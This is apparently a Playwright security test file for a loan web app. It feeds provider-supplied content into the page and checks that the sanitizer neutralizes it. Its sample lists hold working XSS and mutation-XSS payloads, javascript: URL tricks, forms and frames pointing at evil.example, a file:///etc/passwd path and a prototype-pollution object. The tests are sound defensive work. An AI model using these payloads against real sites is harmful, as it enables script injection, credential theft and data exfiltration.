import { createServer } from 'node:http'

import type { Page } from '@playwright/test'

import { atRest, expect, forgetReads, test as base } from '../fixtures.ts'
import { listen } from '../listen.ts'
import { listenForViolations } from '../security/violations.ts'

// What the provider answers is somebody else's: it is shown, and never obeyed.

interface Fixtures {
  /** Another host, which counts who comes. */
  elsewhere: { url: string; visits: string[] }
  /** Every request of the page that is not to the provider. */
  leaving: string[]
}

const test = base.extend<Fixtures>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the fixtures wanted from this pattern
  elsewhere: async ({}, use) => {
    const visits: string[] = []
    const server = createServer((request, response) => {
      visits.push(`${request.method} ${request.url}`)
      response
        .writeHead(200, { 'access-control-allow-origin': '*' })
        .end('{"error":0,"url":"https://x.example/a.jpg"}')
    })
    const port = await listen(server)
    await use({ url: `http://127.0.0.1:${port}`, visits })
    server.close()
    server.closeAllConnections()
  },
  leaving: async ({ page, baseURL }, use) => {
    const gone: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(`${baseURL}/`) && !/^(blob|data):/.test(url)) gone.push(url)
    })
    await use(gone)
  },
})

const ran = (page: Page) => page.evaluate(() => document.documentElement.dataset['ran'])
const act = "document.documentElement.dataset.ran='1'"

const samples = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s>`,
  '<iframe src="https://evil.example/frame"></iframe>',
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  '<p style="width: expression(alert(1)); background: url(https://evil.example/css)">styled</p>',
  '<style>body { display: none } @import "https://evil.example/sheet";</style>',
  '<form action="https://evil.example/take"><input name="password"><button formaction="https://evil.example/">Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/sheet.css">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${act} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><img src=x onerror="${act}"></template>`,
  `<details open ontoggle="${act}"><summary>More</summary></details>`,
  `<video><source onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  `<p id="root" name="body" class="x" onmouseover="${act}" autofocus tabindex=0 onfocus="${act}">clobber</p>`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>`,
]

// The policy's own words come from the inert document, too, in which the sanitizer reads what it takes away.
const refused = /violates the following Content Security Policy/

test(`an agreement of ${samples.length} kinds of malice is words only: no code, no form, no request that leaves [F71]`, async ({
  page,
  context,
  control,
  leaving,
  expectWords,
}) => {
  expectWords(refused)
  test.setTimeout(120_000)
  await forgetReads(page)
  const heard = await listenForViolations(context)
  for (const sample of samples) {
    const cont = `<h2>Terms</h2><p>first words</p>${sample}`
    await control.act('config', { LoanAgreement: { name: 'Kasunduan', ename: 'Agreement', cont } })
    await page.goto('/?agreement=loan')
    const dialog = page.getByRole('dialog', { name: 'Agreement' })
    await expect(dialog.getByText('first words')).toBeVisible()
    const left = await dialog
      .getByText('first words')
      .evaluate((words) =>
        [...(words.parentElement?.querySelectorAll('*') ?? [])].flatMap((element) => [
          element.localName,
          ...element.getAttributeNames(),
        ]),
      )
    expect
      .soft(
        left.filter((name) => !/^(h2|p|table|tbody|tr|td|a)$/.test(name)),
        sample,
      )
      .toEqual([])
  }
  expect(await ran(page)).toBeUndefined()
  expect(leaving).toEqual([])
  // Nothing was left to be fetched that the policy alone would have stopped.
  expect(
    heard.filter((line) => !/^(script|style)-src-(attr|elem) enforce inline$|^base-uri /.test(line)),
  ).toEqual([])
})

test('the links of an agreement lead out over https only, in a tab that knows nothing of this one [F72]', async ({
  page,
  control,
  leaving,
  expectWords,
}) => {
  expectWords(refused)
  const links = {
    code: `javascript:${act}`,
    tabbed: `java&#9;script:${act}`,
    data: 'data:text/html,<script>1</script>',
    relative: '//evil.example/',
    plain: 'http://evil.example/',
    mail: 'vbscript:x',
    good: 'https://lender.example/terms',
  }
  const cont = Object.entries(links)
    .map(
      ([name, href]) => `<p><a href="${href}" target="_self" rel="opener" onclick="${act}">${name}</a></p>`,
    )
    .join('')
  await control.act('config', { LoanAgreement: { name: 'Kasunduan', ename: 'Agreement', cont } })
  await page.goto('/?agreement=loan')
  const dialog = page.getByRole('dialog', { name: 'Agreement' })
  await expect(dialog.getByRole('link')).toHaveCount(1)
  const good = dialog.getByRole('link', { name: 'good' })
  await expect(good).toHaveAttribute('href', 'https://lender.example/terms')
  await expect(good).toHaveAttribute('target', '_blank')
  await expect(good).toHaveAttribute('rel', 'noopener noreferrer')
  for (const name of Object.keys(links).filter((name) => name !== 'good'))
    await dialog.getByText(name, { exact: true }).click()
  await expect(page).toHaveURL('/?agreement=loan')
  expect(await ran(page)).toBeUndefined()
  expect(leaving).toEqual([])
})

test('customer service: an address that is none of the web leaves the placeholder [F73]', async ({
  page,
  control,
}) => {
  for (const kefu of [
    `javascript:${act}`,
    `java\tscript:${act}`,
    ` \u0001javascript:${act}`,
    'intent://scan/#Intent;scheme=zxing;end',
    'https://user:pw@evil.example/',
    'data:text/html,hello',
    'file:///etc/passwd',
    '/relative',
    '',
    null,
    { href: 'https://evil.example/' },
  ]) {
    await control.act('config', { kefu })
    await page.goto('/service')
    await expect(page.getByText('Coming soon')).toBeVisible()
    await atRest(page)
    await expect(page.getByRole('main').getByRole('link'), JSON.stringify(kefu)).toHaveCount(0)
  }
  await control.act('config', { kefu: 'https://help.example/chat' })
  await page.goto('/service')
  const link = page.getByRole('main').getByRole('link', { name: 'Open customer service' })
  await expect(link).toHaveAttribute('href', 'https://help.example/chat')
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
})

const markup = `<img src=x onerror="${act}"><b>bold</b>`
const unseen = '\u0000\u202Egnp.exe\u2066\u0007'
const hostile = `${markup}${unseen}${'endless '.repeat(6400)}`

test('words of the provider are words: markup is shown as it is, what is unseen is gone, 50 kB come to an end [F74]', async ({
  page,
  context,
  control,
  signIn,
  leaving,
}) => {
  const heard = await listenForViolations(context)
  await control.act('config', {
    title: hostile,
    LoanAgreement: { name: hostile, ename: hostile, cont: '<p>first words</p>' },
  })
  const person = await control.person({
    name: hostile.slice(0, 4000),
    profile: 'complete',
    loans: [{ state: 'rejected', remark: hostile }],
    balance: 100,
  })
  const isHarmless = async (where: string) => {
    const body = await page.locator('body').innerText()
    expect.soft(body, where).toContain('<img src=x onerror=')
    // oxlint-disable-next-line no-control-regex -- what must not be there
    expect.soft(body, where).not.toMatch(/[\u0000\u0007\u202E\u2066]/)
    expect.soft(body.length, where).toBeLessThan(12_000)
    expect.soft(await page.title(), where).not.toContain('endless endless endless endless endless endless')
    expect.soft(await page.locator('img[src="x"], b').count(), where).toBe(0)
    expect.soft(await ran(page), where).toBeUndefined()
    expect
      .soft(
        await page.evaluate(
          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
        ),
        where,
      )
      .toBe(0)
  }
  await signIn(person)
  await page.goto('/')
  await expect(page).toHaveTitle(/^<img src=x/)
  await isHarmless('home')
  await page.goto('/?agreement=loan')
  await expect(page.getByText('first words')).toBeVisible()
  await isHarmless('agreement')

  const id = person.loans[0]?.id
  await page.goto(`/loan/details?id=${id}`)
  await expect(page.getByText('Remark from the lender')).toBeVisible()
  await isHarmless('remark')
  await page.goto(`/loan/contract?id=${id}`)
  await expect(page.getByRole('main')).toContainText('onerror')
  await isHarmless('contract')

  for (const [kind, where] of [
    ['refused', 'refusal'],
    ['418', 'status'],
  ] as const) {
    await control.fault('withdrawals', kind, { msg: hostile, times: 0 })
    await page.goto('/wallet/withdraw-list')
    const toast = page.getByRole('alert').getByText('<img src=x').first()
    await expect(toast).toBeVisible()
    await isHarmless(where)
    const box = await toast.boundingBox()
    expect.soft(box?.height ?? Infinity, where).toBeLessThan(300)
    await control.act('faults/clear')
  }
  expect(leaving).toEqual([])
  expect(heard).toEqual([])
})

// As text: an object literal would set the prototype and not send the key.
const polluting = JSON.parse(
  '{"__proto__":{"polluted":1,"title":"x"},"constructor":{"prototype":{"polluted":1}},"prototype":{"polluted":1}}',
) as Record<string, unknown>

test('keys that reach for the prototype of everything are keys like any other [F75]', async ({
  page,
  control,
  signIn,
}) => {
  await forgetReads(page)
  const person = await control.person({ profile: 'complete', loans: [{ state: 'completed' }], balance: 50 })
  await signIn(person)
  await control.act('config', polluting)
  await page.goto('/')
  await expect(page.getByRole('slider')).toBeVisible()
  for (const [call, path, words] of [
    ['wallet', '/wallet', 'Available balance'],
    ['userInfo', '/profile/identity', 'Full name'],
    ['title', '/', 'easy loan'],
    ['installments', `/repayment?order=${person.loans[0]?.ordernum}`, 'Repayment'],
  ] as const) {
    await control.fault(call, 'data', { data: { ...polluting, moneys: 50, list: [polluting] }, times: 0 })
    await page.goto(path)
    await expect(page.getByText(words).first()).toBeVisible()
    await control.act('faults/clear')
  }
  expect(
    await page.evaluate(() => [
      'polluted' in {},
      'polluted' in Object,
      'title' in {},
      Object.keys(Object.prototype).length,
    ]),
  ).toEqual([false, false, false, 0])
})

test('an upload that is sent elsewhere does not go there: the file waits, and nobody else sees it [F76]', async ({
  page,
  context,
  control,
  signIn,
  elsewhere,
  expectWords,
}) => {
  expectWords(refused)
  const heard = await listenForViolations(context)
  await signIn(await control.person({ profile: 'partial' }))
  await page.goto('/profile/identity')
  await control.fault('upload', 'elsewhere', { data: `${elsewhere.url}/take`, times: 0 })
  await page.getByLabel('Front of ID card').setInputFiles('tests/files/photo.jpg')
  await expect(page.getByRole('button', { name: 'Send now' })).toBeVisible()
  expect(elsewhere.visits).toEqual([])
  await expect.poll(() => heard.join()).toContain('connect-src enforce')
  await control.act('faults/clear')
  await page.getByRole('button', { name: 'Send now' }).click()
  await expect(page.getByRole('status').getByText('Uploaded', { exact: true })).toBeVisible()
})

test('an answer that lies elsewhere is not read, and the token is not taken there [F76]', async ({
  page,
  control,
  signIn,
  elsewhere,
  expectWords,
}) => {
  expectWords(refused)
  await signIn(await control.person({ balance: 50 }))
  await control.fault('withdrawals', 'elsewhere', { data: `${elsewhere.url}/take`, times: 0 })
  await page.goto('/wallet/withdraw-list')
  await expect(page.getByRole('main').getByRole('alert')).toContainText('Loading failed')
  expect(elsewhere.visits).toEqual([])
})

test('the address of a picture is one of the web or none, and none is asked of another host [F76]', async ({
  page,
  control,
  signIn,
  elsewhere,
  expectWords,
}) => {
  expectWords(refused)
  await signIn(await control.person({ profile: 'complete' }))
  for (const address of [
    `${elsewhere.url}/x.png`,
    'file:///etc/passwd',
    `javascript:${act}`,
    'data:image/svg+xml,<svg onload="alert(1)"/>',
    'https://user:pw@evil.example/x.png',
  ]) {
    await control.fault('userInfo', 'data', {
      data: { name: 'Maria Santos', usercard: '1234', cardphoto_1: address, cardphoto_2: address },
      times: 0,
    })
    await page.goto('/profile/identity?mode=view')
    await expect(page.getByLabel('Full name')).toHaveValue('Maria Santos')
    const sources = await page
      .locator('main img')
      .evaluateAll((images) => images.map((image) => image.getAttribute('src') ?? ''))
    if (!address.startsWith('http')) expect.soft(sources, address).toEqual([])
    // What is there but may not be shown stands there as a file.
    if (address.startsWith(elsewhere.url)) await expect(page.locator('main img')).toHaveCount(0)
    await control.act('faults/clear')
  }
  expect(await ran(page)).toBeUndefined()
  expect(elsewhere.visits).toEqual([])
})

test('an upload answered with an address that is none of the web is refused [F76]', async ({
  page,
  control,
  signIn,
}) => {
  await signIn(await control.person({ profile: 'partial' }))
  await page.goto('/profile/identity')
  await control.fault('upload', 'javascript-url', { times: 0 })
  await page.getByLabel('Front of ID card').setInputFiles('tests/files/photo.jpg')
  await expect(page.getByText('Upload failed')).toBeVisible()
  expect(await page.locator('[href^="javascript"], [src^="javascript"]').count()).toBe(0)
})

test('answers about somebody else end the session, and nothing of theirs is drawn or kept [F77]', async ({
  page,
  control,
  signIn,
}) => {
  await signIn(await control.person({ profile: 'complete' }))
  await control.fault('userInfo', 'data', {
    data: { phone: '09998887766', name: 'Somebody Else', usercard: '99-SECRET' },
    times: 0,
  })
  await page.goto('/profile/identity?mode=view')
  await expect(page).toHaveURL('/auth/signin')
  await expect(page.getByRole('alert').getByText('Login session expired, please login again')).toHaveCount(1)
  const kept = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))
  expect(kept).not.toContain('Somebody Else')
  expect(kept).not.toContain('99-SECRET')
  expect(await page.evaluate(() => localStorage.getItem('easy-loan/session'))).toBeNull()
})

test('whatever phone answers name, the session keeps its own [F77]', async ({
  page,
  control,
  signInByForm,
}) => {
  const { phone, password } = await control.person({ profile: 'complete' })
  await signInByForm({ phone, password })
  const own = await page.evaluate(() => localStorage.getItem('easy-loan/session'))
  // Its own, written with its country.
  await control.fault('userInfo', 'data', {
    data: { phone: `+63 ${phone.slice(1)}`, name: 'Maria Santos', usercard: '1234' },
    times: 0,
  })
  await page.goto('/profile/identity?mode=view')
  await expect(page.getByLabel('Full name')).toHaveValue('Maria Santos')
  expect(await page.evaluate(() => localStorage.getItem('easy-loan/session'))).toBe(own)
  expect(own).toContain(phone)
})
